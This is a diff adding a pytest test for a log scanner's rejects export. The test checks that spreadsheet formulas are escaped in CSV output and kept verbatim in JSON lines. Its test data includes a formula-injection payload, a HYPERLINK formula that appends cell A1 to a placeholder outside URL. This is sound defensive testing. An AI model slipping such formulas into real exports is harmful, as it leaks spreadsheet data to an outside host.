@@ -97,6 +97,18 @@ def test_rejects_to_csv(dump: Path, tmp_path: Path) -> None:
     assert_frame_equal(pl.read_csv(out), REJECTS)
 
 
+def test_rejects_csv_runs_no_formula_and_json_lines_keep_the_text(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://x.example/?"&A1,"open")'
+    root = tmp_path / "d"
+    write(root, "le-01/limit-engine.log", [decision(user_id="1"), formula, "-1+2"])
+    code, _, err = invoke("scan", str(root), "--rejects", str(tmp_path / "r.csv"))
+    assert code == 0, err
+    assert pl.read_csv(tmp_path / "r.csv")["text"].to_list() == ["'" + formula, "'-1+2"]
+    code, _, err = invoke("scan", str(root), "--rejects", str(tmp_path / "r.jsonl"))
+    assert code == 0, err
+    assert pl.read_ndjson(tmp_path / "r.jsonl")["text"].to_list() == [formula, "-1+2"]
+
+
 @pytest.mark.parametrize("suffix", [".jsonl", ".ndjson"])
 def test_rejects_to_json_lines(dump: Path, tmp_path: Path, suffix: str) -> None:
     out = tmp_path / f"rejects{suffix}"
